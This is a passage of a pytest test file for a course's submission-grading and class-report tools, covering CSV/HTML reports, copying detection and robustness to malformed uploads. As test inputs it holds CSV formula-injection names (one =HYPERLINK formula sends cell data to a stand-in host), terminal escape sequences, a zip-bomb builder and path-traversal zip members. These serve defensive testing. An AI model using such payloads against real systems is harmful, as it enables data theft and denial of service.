"""tools/grade_class.py and tools/class_report.py (its outputs): a folder of synthetic submissions graded into one
CSV, with copying flagged.

The submissions are made here: the reference code with small fake prediction files on the tiny world of
conftest. Only a few grader tests run (--tests) so that grading five submissions stays quick.
"""

import csv
import io
import json
import random
import re
import subprocess
import sys
import zipfile

import pytest

from conftest import ROOT, SRC, make_world

import class_report
import grade_class

# graded as root with user ids picked when the test starts: in one xdist worker, one at a time
# one xdist worker runs this module, so that its classes graded for real (the module's fixtures, seconds each) are
# graded once: graders as root take user ids of their worker's own (conftest.free_uid) or claim them
# (grading.users), so the root tests of other modules run beside them
pytestmark = pytest.mark.xdist_group("grade-class")

PLACES = ["Paris", "Rome", "Oslo", "Lima", "Tokyo", "Cairo", "Quito", "Berlin"]
POINTS = json.loads((SRC / "points.json").read_text(encoding="utf-8"))["tests"]
TESTS = ["1c-3-basic", "1e-4-basic"]  # one test that needs model.py, one that does not


def answers(data, split):
    name = "birth_dev.tsv" if split == "dev" else "birth_test.tsv"
    return [line.split("\t")[1] for line in (data / name).read_text(encoding="utf-8").splitlines()]


def fake_predictions(data, seed):
    """{file: text}: each line the right place with probability 1/2, else a random place."""
    rng = random.Random(seed)
    out = {}
    for fname in grade_class.PREDICTION_FILES:
        gold = answers(data, "dev" if ".dev." in fname else "test")
        out[fname] = "".join((a if rng.random() < 0.5 else rng.choice(PLACES)) + "\n" for a in gold)
    return out


def deliverables(data, seed, drop=(), edits=None):
    """{name: bytes}: the reference's .py files (edited), fake predictions, stand-in params files."""
    files = {p.name: p.read_bytes() for p in sorted((SRC / "submission").glob("*.py"))}
    for name, (old, new) in (edits or {}).items():
        assert old.encode() in files[name]
        files[name] = files[name].replace(old.encode(), new.encode(), 1)
    files.update({k: v.encode() for k, v in fake_predictions(data, seed).items()})
    files.update({name: b"not a real state dict" for name in grade_class.PARAMS_FILES})
    return {k: v for k, v in files.items() if k not in drop}


def write_zip(path, files, prefix=""):
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in files.items():
            zf.writestr(prefix + name, data)


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    d = tmp_path_factory.mktemp("data")
    make_world(d, held_out=True)
    return d


@pytest.fixture(scope="module")
def graded(tmp_path_factory, data):
    """Five submissions graded once: (folder, out csv, the finished process)."""
    root = tmp_path_factory.mktemp("class")
    subs = root / "submissions"
    subs.mkdir()
    write_zip(subs / "alice.zip", deliverables(data, 1))                                  # the flat zip
    write_zip(subs / "bob.zip", deliverables(data, 1), prefix="src/submission/")         # alice's predictions
    write_zip(subs / "dave.zip", deliverables(data, 4, edits={"dataset.py": ("import random", "import no_such_module_xyz\nimport random")}))
    (subs / "erin.zip").write_bytes(b"PK\x03\x04 this is not really a zip file")          # broken
    frank = subs / "frank" / "frank_hw5"               # a folder, one level down, with two files left out
    frank.mkdir(parents=True)
    for name, content in deliverables(data, 6, drop=("model.py", "perceiver.pretrain.test.predictions")).items():
        (frank / name).write_bytes(content)
    (subs / "notes.txt").write_text("not a submission", encoding="utf-8")
    out = root / "grades.csv"
    proc = subprocess.run([sys.executable, str(ROOT / "tools" / "grade_class.py"), str(subs), "--out", str(out),
                           "--data-dir", str(data), "--jobs", "2", "--tests", *TESTS],
                          capture_output=True, text=True, timeout=600)
    return subs, out, proc


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return {row["submission"]: row for row in csv.DictReader(f)}


@pytest.mark.grader
def test_a_class_is_graded_into_one_row_per_submission(graded, data):
    subs, out, proc = graded
    assert proc.returncode == 0, proc.stderr[-3000:]
    rows = read_csv(out)
    assert sorted(rows) == ["alice", "bob", "dave", "erin", "frank"]
    for name in ("alice", "bob"):  # the reference code earns every point of the basic tests run
        assert rows[name]["graded"] == "yes", rows[name]
        assert [rows[name][t] for t in TESTS] == [f"{POINTS[t]:g}" for t in TESTS], rows[name]
        assert rows[name]["problems"] == "", rows[name]
    assert rows["alice"]["coding_max"] == rows["frank"]["coding_max"] == f"{sum(POINTS[t] for t in TESTS):g}"
    assert rows["alice"]["coding"] == rows["alice"]["total"] == rows["alice"]["coding_max"], rows["alice"]
    assert rows["alice"]["extra_credit"] == rows["alice"]["extra_credit_max"] == "0"  # none selected
    # accuracy of each prediction file against the answers, computed here independently
    for name, seed in (("alice", 1), ("frank", 6)):
        for fname, text in fake_predictions(data, seed).items():
            if fname == "perceiver.pretrain.test.predictions" and name == "frank":
                continue
            gold = answers(data, "dev" if ".dev." in fname else "test")
            want = sum(p == a for p, a in zip(text.splitlines(), gold)) / len(gold)
            assert float(rows[name][f"accuracy:{fname}"]) == pytest.approx(want, abs=1e-4)
    assert "1e-4-basic" in rows["alice"] and "1g-3-basic" not in rows["alice"]  # only the selected tests


@pytest.mark.grader
def test_broken_zip_import_error_and_missing_files_are_rows_with_a_reason(graded):
    _, out, proc = graded
    rows = read_csv(out)
    assert rows["erin"]["graded"] == "no" and "cannot read the submission" in rows["erin"]["problems"]
    assert rows["erin"]["total"] == rows["erin"]["coding"] == rows["erin"]["extra_credit"] == ""
    dave = rows["dave"]
    assert dave["graded"] == "yes"
    assert "importing submission/dataset.py raised ModuleNotFoundError" in dave["problems"], dave
    assert dave["1e-4-basic"] == "0" and dave["1c-3-basic"] == "0"
    frank = rows["frank"]
    assert frank["graded"] == "yes"
    assert "missing: model.py" in frank["problems"] and "perceiver.pretrain.test.predictions" in frank["problems"]
    assert frank["1e-4-basic"] == f"{POINTS['1e-4-basic']:g}" and frank["1c-3-basic"] == "0"  # the dataset does not need model.py
    assert frank["accuracy:perceiver.pretrain.test.predictions"] == ""
    assert "erin: cannot read the submission" in proc.stdout


@pytest.mark.grader
def test_identical_predictions_are_flagged_as_a_pair(graded):
    _, out, proc = graded
    with open(out.with_name("grades.pairs.csv"), newline="", encoding="utf-8") as f:
        pairs = list(csv.DictReader(f))
    assert {(p["submission_a"], p["submission_b"]) for p in pairs} == {("alice", "bob")}
    assert sorted(p["file"] for p in pairs) == sorted(grade_class.PREDICTION_FILES)
    assert all(float(p["fraction_same_wrong"]) == 1.0 and int(p["same_wrong_answers"]) > 0 for p in pairs)
    assert "alice ~ bob" in proc.stdout


@pytest.mark.grader
def test_a_rerun_grades_only_new_or_changed_submissions(graded, data, monkeypatch, capsys):
    subs, out, _ = graded
    before = out.read_text(encoding="utf-8")
    calls = []

    def fake_grade(name, path, cfg, cpus):
        calls.append(name)
        return {"version": grade_class.CACHE_VERSION, "name": name, "fingerprint": grade_class.fingerprint(path),
                "graded": False, "results": None, "problems": ["regraded"], "files": [], "seconds": 0.0}

    monkeypatch.setattr(grade_class, "grade_one", fake_grade)
    argv = [str(subs), "--out", str(out), "--data-dir", str(data), "--jobs", "2", "--tests", *TESTS]
    assert grade_class.main(argv) == 0
    assert calls == [] and out.read_text(encoding="utf-8") == before  # everything came from the cache
    # a changed submission is graded again, and only it
    (subs / "frank" / "frank_hw5" / "vanilla.pretrain.dev.predictions").write_text("Paris\n" * 10, encoding="utf-8")
    assert grade_class.main(argv) == 0
    assert calls == ["frank"]
    assert grade_class.main(argv + ["--regrade"]) == 0
    assert sorted(calls[1:]) == ["alice", "bob", "dave", "erin", "frank"]


@pytest.mark.grader
def test_the_reference_earns_the_written_part_and_every_cell_states_its_status(tmp_path, data):
    """The grading copy holds every file the grader imports (grader.GRADING_FILES): the written part's checks
    run and the reference earns its 10 extra-credit points; a judged hidden test is graded; the 0-point info
    test shows its score, not "pending".  A stray older copy of a file is not graded, and the row says so."""
    subs = tmp_path / "submissions"
    folder = subs / "ref" / "src" / "submission"
    folder.mkdir(parents=True)
    for name, content in deliverables(data, 1).items():
        (folder / name).write_bytes(content)
    (subs / "ref" / "old").mkdir()
    (subs / "ref" / "old" / "model.py").write_text("raise ImportError('an old draft')\n", encoding="utf-8")
    out = tmp_path / "grades.csv"
    written = [t for t in POINTS if t.startswith("3")]
    proc = subprocess.run([sys.executable, str(ROOT / "tools" / "grade_class.py"), str(subs), "--out", str(out),
                           "--data-dir", str(data), "--jobs", "1", "--tests", "3", "1d-2-basic", "1g-3-hidden"],
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    row = read_csv(out)["ref"]
    assert sum(float(row[t]) for t in written) == 10 == sum(POINTS[t] for t in written), row
    # the extra credit apart from the coding points, each of its own maximum; the total is both
    assert (row["extra_credit"], row["extra_credit_max"]) == ("10", "10"), row
    assert (row["coding"], row["coding_max"]) == ("1", f"{POINTS['1d-2-basic'] + POINTS['1g-3-hidden']:g}"), row
    assert row["total"] == "11", row
    assert row["1g-3-hidden"] == "1" and row["1d-2-basic"] == "0", row
    assert "model.py: graded src/submission/model.py" in row["problems"] and "old/model.py" in row["problems"]


def test_a_submissions_own_name_is_text_in_grades_csv_and_harmless_on_the_terminal(tmp_path, capsys):
    """A student names the folder or zip they upload: in grades.csv a name that starts a formula stays text (a
    spreadsheet shows it, never runs it), and on the terminal an escape sequence or a carriage return in it is
    printed as its escape, never sent to the terminal."""
    names = ['=HYPERLINK("http://x.example/?"&B2,"ok")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
             "\x1b]0;owned\x07\x1b[2Jcarol\rdone"]
    ordered = [(n, {"graded": False, "problems": ["cannot read the submission"]}) for n in names]
    out = tmp_path / "grades.csv"
    class_report.write_report(out, ordered, [], {}, {})
    with open(out, newline="", encoding="utf-8") as f:
        cells = [row[0] for row in list(csv.reader(f))[1:]]
    assert cells[:4] == ["'" + n for n in names[:4]] and cells[4] == names[4]  # not a formula: kept as it was
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\x07" not in printed and "\r" not in printed
    assert "\\x1b]0;owned\\x07\\x1b[2Jcarol\\rdone: cannot read the submission" in printed


def gradescope_results(scores):
    """A results.json as the grader writes it, of {test id: (score, max, status)}; 3x tests are extra credit."""
    tests = [{"number": tid, "score": got, "max_score": top, "extra_data": {"status": status},
              **({"tags": ["extra credit"]} if tid.startswith("3") else {})}
             for tid, (got, top, status) in scores.items()]
    return {"score": sum(t["score"] for t in tests), "tests": tests}


class Tables(__import__("html.parser").parser.HTMLParser):
    """The tables of a page: [[header cells], [row cells], ...] each, with each table's class."""

    def __init__(self, page):
        super().__init__()
        self.tables, self.classes, self.keys, self.cell = [], [], [], None
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.tables.append([])
            self.keys.append([])  # each cell's data-sort, where it has one
            self.classes.append(dict(attrs).get("class"))
        elif tag == "tr":
            self.tables[-1].append([])
            self.keys[-1].append([])
        elif tag in ("td", "th"):
            self.cell, self.key = "", dict(attrs).get("data-sort")

    def handle_endtag(self, tag):
        if tag in ("td", "th"):
            self.tables[-1][-1].append(self.cell.strip())
            self.keys[-1][-1].append(self.key)
            self.cell = None

    def handle_data(self, data):
        if self.cell is not None:
            self.cell += data


def test_the_report_page_opens_on_a_sortable_roster_with_statistics_and_the_runs_facts(tmp_path):
    """What an instructor grades from: the run's facts (data set and row, date, kit, tests), a roster that sorts by
    any column (coding points, extra credit, total, each part with its maximum, what needs attention), each name
    linked to that submission's page of per-test results, and per part and per test the maximum, mean, median,
    deviation, highest score and the share with every point (none for a test of 0 points, which was "100 %")."""
    import params_similarity as ps

    missing = ["model.py", *grade_class.PREDICTION_FILES, *grade_class.PARAMS_FILES]
    unmatched = {"number": "1d-0-hidden", "score": 0, "max_score": 3, "output": "it does not match its params",
                 "extra_data": {"status": "failed", "reason": "predictions-not-from-params"}}
    ordered = [
        ("alice", {"graded": True, "problems": [],
                   "results": gradescope_results({"1c-3-basic": (1, 1, "passed"), "1e-0-basic": (2, 2, "passed"),
                                                  "1d-2-basic": (0, 0, "info"), "3a-0-basic": (2, 2, "passed")})}),
        ("bob", {"graded": True, "problems": ["missing: model.py"], "missing": ["model.py"],
                 "results": gradescope_results({"1c-3-basic": (0, 1, "failed"), "1e-0-basic": (2, 2, "passed"),
                                                "3a-0-basic": (0, 2, "failed")})}),
        ("carol", {"graded": False, "problems": ["cannot read the submission: broken; not graded"]}),
        ("dave", {"graded": True, "problems": ["missing: " + ", ".join(missing)], "missing": missing,
                  "results": gradescope_results({"1c-3-basic": (0, 1, "failed"), "1e-0-basic": (0, 2, "failed")})}),
    ]
    ordered[3][1]["results"]["tests"].append(unmatched)
    params = ps.Comparison(4, [ps.ParamsPair("bob", "vanilla.model.params", "dave", "vanilla.model.params", 0.03)],
                           [], [], [("carol", "", "the upload carol.zip is not a zip file: not compared")], "")
    out = tmp_path / "grades.csv"
    class_report.write_report(out, ordered, ["1c-3-basic", "1d-0-hidden", "1d-2-basic", "1e-0-basic", "3a-0-basic"],
                              {}, {}, facts=[("data", "/data; accuracy thresholds: 'course'"), ("kit", "abc1234")],
                              params=params)
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "<li>kit: abc1234</li>" in page and "accuracy thresholds: &#x27;course&#x27;" in page
    tables = Tables(page)
    roster = tables.tables[tables.classes.index("sortable")]
    assert roster[0] == ["submission", "coding", "extra credit", "total", "part 1c of 1", "part 1d of 3",
                         "part 1e of 2", "part 3a of 2", "needs attention"]
    rows = {r[0]: r for r in roster[1:]}
    assert rows["alice"][1:8] == ["3", "2", "5", "1", "0", "2", "2"] and rows["alice"][-1] == ""
    assert rows["bob"][1:4] == ["2", "0", "2"]
    assert rows["carol"][1] == "not graded" and len(rows["carol"]) == len(roster[0])
    attention = page.split("<h2>Roster</h2>")[1].split("</table>")[0]
    dave = attention.split(">dave</a>")[1].split("</tr>")[0]
    # the strongest reason first, then copying, then the missing files in a few words, not eleven names
    said = [dave.index(w) for w in ("predictions do not match their params", "params ~ bob (3.0% apart)",
                                    "missing 12 of 18 deliverables: model.py, 6 prediction files, 5 params files")]
    assert said == sorted(said), dave
    assert "vanilla.nopretrain.dev.predictions" not in dave
    assert "not graded" in attention.split(">carol</a>")[1].split("</tr>")[0]
    assert "params not compared" in attention.split(">carol</a>")[1].split("</tr>")[0]
    assert "missing 1 of 18 deliverables: model.py" in attention.split(">bob</a>")[1].split("</tr>")[0]
    assert 'th.addEventListener("click"' in page  # the roster sorts by the column clicked
    # each name links to its page of per-test results, private as every output
    import stat

    links = dict(re.findall(r'<td><a href="(grades\.students/[^"]+)">([^<]+)</a></td>', attention))
    assert sorted(links.values()) == ["alice", "bob", "carol", "dave"], links
    for rel, name in links.items():
        own = (tmp_path / rel).read_text(encoding="utf-8")
        assert f"<h1>{name}</h1>" in own and stat.S_IMODE((tmp_path / rel).stat().st_mode) == 0o600
    assert stat.S_IMODE((tmp_path / "grades.students").stat().st_mode) == 0o700
    # each reason one click from its evidence: the submission's own results, the params section
    own = next(r for r, n in links.items() if n == "dave")
    assert f'<a href="{own}"><b class="warn">predictions do not match their params' in dave, dave
    assert '<a href="#params">params ~ bob (3.0% apart)</a>' in dave and 'id="params"' in page
    dave_page = (tmp_path / own).read_text(encoding="utf-8")
    assert "1d-0-hidden" in dave_page and "it does not match its params" in dave_page
    assert "vanilla.nopretrain.dev.predictions" in dave_page  # the full list of what is missing is here
    stats = next(t for t in tables.tables if t and t[0][:3] == ["part or test", "max", "mean"])
    by = {r[0]: r for r in stats[1:]}
    assert by["1c"] == ["1c", "1", "0.33", "0", "0.47", "1", "33%"]
    assert by["1e-0-basic"][-1] == "67%" and by["3a"][1] == "2"
    assert by["1d-2-basic"][-1] == "no points", by["1d-2-basic"]  # a test of 0 points is no "100 %"


# A page's script run on a table of plain objects standing in for the browser's: the roster's rows and cells as
# the page lays them out, a header's click, and the rows' order afterwards, printed as JSON.
FAKE_DOM = """
const cells = %s;
function cell(text, sort) { return {textContent: text, dataset: sort === null ? {} : {sort: sort}}; }
const body = {rows: [], appendChild(row) { this.rows.splice(this.rows.indexOf(row), 1); this.rows.push(row); }};
const header = {children: cells[0].map(h => ({})), parentNode: body};
body.rows.push(header);
for (const r of cells.slice(1)) body.rows.push({children: r.map(c => cell(c[0], c[1])), parentNode: body});
const table = {querySelectorAll: () => body.rows.slice()};
const handlers = [];
const ths = cells[0].map((h, i) => ({dataset: {}, closest: () => table,
                                     addEventListener: (e, f) => { handlers[i] = f; }}));
const document = {querySelectorAll: () => ths};
%s
const clicks = %s;
const seen = [];
for (const column of clicks) { handlers[column](); seen.push(body.rows.slice(1).map(r => r.children[0].textContent)); }
console.log(JSON.stringify(seen));
"""


def test_a_click_on_a_roster_column_sorts_by_it_numbers_as_numbers(tmp_path):
    """The roster's script, run by node where it is installed: a click on "total" sorts 10 after 9 (as numbers,
    not text), a second click the other way, the ungraded submission (-1) first ascending; a click on the name
    sorts by text."""
    import shutil as _shutil

    node = _shutil.which("node") or _shutil.which("nodejs")
    if node is None:
        pytest.skip("node is not installed: the page's script is not run here")
    ordered = [(name, {"graded": True, "problems": [],
                       "results": gradescope_results({"1c-3-basic": (points, 10, "failed")})})
               for name, points in (("bob", 9), ("alice", 10), ("dave", 2))] + [("carol", {"graded": False})]
    out = tmp_path / "grades.csv"
    class_report.write_report(out, ordered, ["1c-3-basic"], {}, {})
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    script = page[page.index("<script>") + len("<script>"):page.index("</script>")]
    tables = Tables(page)
    k = tables.classes.index("sortable")
    rows, keys = tables.tables[k], tables.keys[k]
    cells = [rows[0]] + [[[text, key] for text, key in zip(row, row_keys)] for row, row_keys in zip(rows[1:], keys[1:])]
    program = FAKE_DOM % (json.dumps(cells), script, json.dumps([3, 3, 0]))
    (tmp_path / "sort.js").write_text(program, encoding="utf-8")
    r = subprocess.run([node, str(tmp_path / "sort.js")], capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    by_total, backwards, by_name = json.loads(r.stdout)
    assert by_total == ["carol", "dave", "bob", "alice"]
    assert backwards == ["alice", "bob", "dave", "carol"]
    assert by_name == ["alice", "bob", "carol", "dave"]


def test_a_part_everyone_scored_0_in_has_no_histogram_but_a_sentence(tmp_path):
    """A part of 0 points for every graded submission was drawn as one bar on an axis of -0.45..0.45: it has no
    histogram, and the page says which parts and why."""
    ordered = [(name, {"graded": True, "problems": [],
                       "results": gradescope_results({"1c-3-basic": (points, 1, "passed" if points else "failed"),
                                                      "1e-0-basic": (0, 4, "failed")})})
               for name, points in (("ann", 1), ("bob", 0))]
    class_report.write_report(tmp_path / "grades.csv", ordered, ["1c-3-basic", "1e-0-basic"], {}, {})
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "No histogram of part 1e: every graded submission scored 0 there." in page
    assert "part 1c" not in page.split("<h2>Score distributions</h2>")[1].split("<img")[0]


def test_histograms_of_points_have_a_bin_per_whole_point():
    """A bar per whole point, centred on it: a part everyone scored 0 in is one bar at 0 (its axis ran -0.4..0.4,
    with ticks at a quarter point and half a submission); accuracies in twentieths of 0..1."""
    assert class_report.histogram_bins([0, 0, 0], True) == [-0.5, 0.5]
    assert class_report.histogram_bins([0, 3, 2.5], True) == [-0.5, 0.5, 1.5, 2.5, 3.5]
    bins = class_report.histogram_bins([0.1], False)
    assert len(bins) == 21 and bins[0] == 0 and bins[-1] == 1


def test_flagged_pairs_of_either_kind_join_into_groups_the_largest_first(tmp_path):
    """alice ~ bob and bob ~ carol by their prediction files, carol ~ dave and alice ~ bob by their code: one group
    of four that both kinds join, with every link; erin ~ frank by code alone: a group of two.  The page lists the
    groups in that order, and a submission in no flagged pair is in none."""
    import code_similarity

    def pred(a, b):
        return class_report.PredictionPair(a, b, "vanilla.pretrain.dev.predictions", 500, 400, 398, 0.995, 3.0, 80, 81)

    def code(a, b, score):
        return code_similarity.Pair(a, b, score, score, score, 900, {"dataset.py": score}, {"dataset.py": 900}), ""

    preds = [pred("alice", "bob"), pred("bob", "carol")]
    codes = [code("carol", "dave", 0.8), code("erin", "frank", 0.7), code("alice", "bob", 0.9)]
    groups = class_report.clusters(preds, codes)
    assert [(g.members, g.kinds) for g in groups] == [(["alice", "bob", "carol", "dave"], ["code", "predictions"]),
                                                      (["erin", "frank"], ["code"])]
    assert ("carol", "dave", "code 80%") in groups[0].links and len(groups[0].links) == 4
    assert ("alice", "bob", "predictions: 398 wrong answers in common over 1 file (independent runs share 3.0)"
            ) in groups[0].links
    ordered = [(n, {"graded": False, "problems": []}) for n in ("alice", "bob", "carol", "dave", "erin", "frank",
                                                                 "gina")]
    page = class_report.report_page(tmp_path / "grades.csv", ordered, preds, codes, None)
    section = page.split("<h2>Possible copying: groups</h2>")[1].split("<h2>")[0]
    assert section.index("alice<br>bob<br>carol<br>dave") < section.index("erin<br>frank"), section
    assert "gina" not in section and "code and predictions" in section, section


def test_prediction_pairs_are_flagged_by_wrong_answers_shared_beyond_what_independent_runs_share():
    """Evidence of copying is wrong answers in common, measured against what each of the two files shares with the
    class's other runs.  Two files right on nearly every line agree on their right answers and show nothing (they
    were flagged at 100 %, "0 of them wrong in both"); a copy that changed one answer shares its source's wrong
    answers and is flagged, with how many independent runs share; a crowd of weak runs that gives one wrong answer
    on the same 60 lines (most of the class: one computation) shares it with most files, and two of them are not a
    pair; blank lines are no answer; a file of another length is never compared."""
    rng = random.Random(1)
    places = [f"Town {k}" for k in range(300)]
    gold = [rng.choice(places) for _ in range(100)]

    def run(accuracy):
        return [g if rng.random() < accuracy else rng.choice(places) for g in gold]

    own = {f"s{k}": run(0.3) for k in range(12)}  # independent runs
    crowd = "Springfield"
    for k in range(9):  # with crowd1 and crowd2, 11 of the class's 18 files answer it on the same 60 questions
        own[f"s{k}"][:60] = [crowd] * 60
    own["crowd1"], own["crowd2"] = [crowd] * 60 + run(0.3)[60:], [crowd] * 60 + run(0.3)[60:]
    own["ace1"], own["ace2"] = list(gold), [("Elsewhere" if i == 7 else g) for i, g in enumerate(gold)]
    own["copy"] = list(own["s9"])
    own["copy"][0] = "Nowhere"  # a copy that changed one answer
    own["blank1"], own["blank2"] = [""] * 100, [""] * 100
    own["short"] = own["s9"][:99]
    fname = "vanilla.pretrain.dev.predictions"
    pairs = class_report.similar_pairs({n: {fname: lines} for n, lines in own.items()}, {fname: gold})
    assert [(p.a, p.b) for p in pairs] == [("copy", "s9")], pairs
    (p,) = pairs
    wrong = sum(a != g for a, g in zip(own["s9"][1:], gold[1:]))
    assert p.same_wrong == wrong and p.both_wrong == wrong and p.fraction == 1.0
    assert p.expected < 2 and p.lines == 100  # what s9 and the copy share with the others: next to nothing
    assert (p.distinct_a, p.distinct_b) == (len(set(own["copy"])), len(set(own["s9"])))
    # in a class of three, two copies share their wrong answers, the third run nothing with them: flagged; two
    # files of blank lines share no answer at all
    small = {n: {fname: own[n]} for n in ("s9", "copy", "s10")}
    assert [(p.a, p.b) for p in class_report.similar_pairs(small, {fname: gold})] == [("copy", "s9")]
    blanks = {n: {fname: own[n]} for n in ("blank1", "blank2", "s10")}
    assert class_report.similar_pairs(blanks, {fname: gold}) == []


@pytest.mark.parametrize("layout", ["flat", "src/submission/", "one_folder/", "one_folder/submission/"])
def test_zip_layouts_are_found(tmp_path, layout):
    files = {"model.py": b"x = 1\n", "helper.py": b"", "vanilla.pretrain.dev.predictions": b"Paris\n"}
    path = tmp_path / "s.zip"
    with zipfile.ZipFile(path, "w") as zf:
        for name, content in files.items():
            zf.writestr(("" if layout == "flat" else layout) + name, content)
        zf.writestr("__MACOSX/._model.py", b"junk")
        zf.writestr(("" if layout == "flat" else layout) + "old/model.py", b"x = 0\n")  # a stray older copy
    copied, problems = grade_class.unpack(path, tmp_path / "out")
    assert copied == sorted(files)
    assert (tmp_path / "out" / "model.py").read_bytes() == b"x = 1\n"
    # the stray copy is named, with the reason the other one was graded
    assert len(problems) == 1 and "old/model.py" in problems[0] and "most deliverables" in problems[0], problems


def test_user_errors_exit_2_with_one_sentence(tmp_path, capsys):
    assert grade_class.main([str(tmp_path / "nope"), "--out", str(tmp_path / "g.csv")]) == 2
    assert "is not a folder" in capsys.readouterr().err
    (tmp_path / "empty").mkdir()
    assert grade_class.main([str(tmp_path / "empty"), "--out", str(tmp_path / "g.csv")]) == 2
    assert "holds no submissions" in capsys.readouterr().err
    assert not (tmp_path / "g.csv").exists()


def test_histogram_of_totals_and_accuracies(tmp_path):
    pytest.importorskip("matplotlib")  # in requirements.txt; skipped where someone installed without it
    png = tmp_path / "grades.png"
    accs = {f: [0.1, 0.25, 0.3] for f in grade_class.PREDICTION_FILES}
    assert class_report.plot(png, [10, 12, 30, 31], accs) is True
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and png.stat().st_size > 10_000


# -- issue 39: uploads that stopped a whole class run, took its memory, or slipped through a link -------------


def patch_central(data, name, flags=None, method=None):
    """The zip `data` with the central directory's flags or compression method of member `name` changed."""
    import struct

    data = bytearray(data)
    end = data.rindex(b"PK\x05\x06")
    count, _, offset = struct.unpack("<HII", data[end + 10:end + 20])
    pos = offset
    for _ in range(count):
        n, m, k = struct.unpack("<HHH", data[pos + 28:pos + 34])
        if data[pos + 46:pos + 46 + n].decode() == name:
            if flags is not None:
                data[pos + 8:pos + 10] = struct.pack("<H", flags)
            if method is not None:
                data[pos + 10:pos + 12] = struct.pack("<H", method)
        pos += 46 + n + m + k
    return bytes(data)


def bomb_zip(path, files, member, inflated):
    """A zip of `files` and one more member that inflates to `inflated` bytes of zeros (a thousand times its size
    in the zip)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, content in files.items():
            zf.writestr(name, content)
        with zf.open(member, "w", force_zip64=True) as out:
            zeros = bytes(1 << 20)
            for _ in range(inflated >> 20):
                out.write(zeros)


@pytest.mark.grader
def test_no_upload_stops_a_class_run_takes_its_memory_or_is_read_through_a_link(tmp_path, data, deep_tree):
    """Uploads that each stopped a whole grade_class run, or cost root's memory: a folder with a tree 1,500 deep
    (RecursionError before anyone was graded) and a copy of model.py under a name that is not UTF-8 and holds a
    newline (the report could not be written); a zip whose params file inflates to 300 MiB (read whole into
    memory); a zip with an encrypted member and one with a compression method zipfile does not know (neither
    error was caught); a submission that is a symbolic link to a folder elsewhere (it was graded).  Each costs
    only its own grade, with one sentence in the problems column; the others are graded."""
    import os

    subs = tmp_path / "submissions"
    subs.mkdir()
    files = deliverables(data, 1)
    deep = subs / "deep"
    deep.mkdir()
    for name, content in files.items():
        (deep / name).write_bytes(content)
    deep_tree(deep / "tree")
    odd = os.path.join(os.fsencode(deep), b"\xff\nold")
    os.mkdir(odd)
    with open(os.path.join(odd, b"model.py"), "wb") as f:
        f.write(b"raise ImportError('an old draft')\n")
    os.mkfifo(deep / "fifo")
    bomb_zip(subs / "bomb.zip", {"model.py": files["model.py"]}, "vanilla.model.params", 300 << 20)
    buf = io.BytesIO()
    write_zip(buf, files)
    (subs / "locked.zip").write_bytes(patch_central(buf.getvalue(), "model.py", flags=1))
    (subs / "squeezed.zip").write_bytes(patch_central(buf.getvalue(), "helper.py", method=99))
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    for name, content in files.items():
        (elsewhere / name).write_bytes(content)
    (subs / "linked").symlink_to(elsewhere, target_is_directory=True)
    out = tmp_path / "grades.csv"
    proc = subprocess.run([sys.executable, str(ROOT / "tools" / "grade_class.py"), str(subs), "--out", str(out),
                           "--data-dir", str(data), "--jobs", "1", "--tests", "1e-4-basic"],
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr[-3000:]
    rows = read_csv(out)
    assert sorted(rows) == ["bomb", "deep", "linked", "locked", "squeezed"]
    row = rows["deep"]
    assert row["graded"] == "yes" and row["1e-4-basic"] == f"{POINTS['1e-4-basic']:g}", row
    assert "model.py: graded model.py" in row["problems"] and "\\xff\\nold/model.py" in row["problems"]
    for name, reason in (("bomb", "vanilla.model.params"), ("locked", "encrypted"), ("squeezed", "compression"),
                         ("linked", "symbolic link")):
        assert rows[name]["graded"] == "no" and reason in rows[name]["problems"], rows[name]
        assert "\n" not in rows[name]["problems"], rows[name]


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_an_upload_is_copied_in_pieces_and_one_past_the_limits_is_refused(tmp_path, monkeypatch):
    """src/kit/upload.py, every grading path's reader: a 48 MiB params file is copied out of a zip a piece at a time
    (it was read whole into memory); a member whose header promises more than a deliverable may be, or that
    inflates a thousand times, is refused before anything is inflated; so is a zip or a folder with more entries
    than MAX_ENTRIES.  Each refusal is one sentence (upload.UploadError); names from the upload are never a path
    (a member `../model.py` or `/model.py` lands as model.py, or not at all)."""
    import os
    import time
    import tracemalloc

    from kit import upload

    names = ["helper.py", "model.py", "vanilla.model.params"]
    big = os.urandom(48 << 20)
    with zipfile.ZipFile(tmp_path / "big.zip", "w") as zf:
        zf.writestr("vanilla.model.params", big)
        zf.writestr("model.py", b"x = 1\n")
        zf.writestr("../helper.py", b"outside\n")
        zf.writestr("/helper.py", b"absolute\n")
        zf.writestr("/helper.py", b"twice\n")
    tracemalloc.start()
    try:
        choice = upload.copy_deliverables(tmp_path / "big.zip", names, tmp_path / "out")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (tmp_path / "out" / "vanilla.model.params").read_bytes() == big
    assert sorted(choice.chosen) == names and (tmp_path / "out" / "helper.py").read_bytes() == b"absolute\n"
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == names
    assert peak < 16 << 20, f"{peak >> 20} MiB held at once"

    bomb_zip(tmp_path / "bomb.zip", {"model.py": b"x = 1\n"}, "vanilla.model.params", 300 << 20)
    started = time.monotonic()
    with pytest.raises(upload.UploadError, match="vanilla.model.params"):
        upload.copy_deliverables(tmp_path / "bomb.zip", names, tmp_path / "bombed")
    assert time.monotonic() - started < 2

    sparse = tmp_path / "sparse"  # 10 GiB that take no disk: refused by its size, before a byte is read
    sparse.mkdir()
    (sparse / "model.py").write_bytes(b"x = 1\n")
    with open(sparse / "vanilla.model.params", "wb") as f:
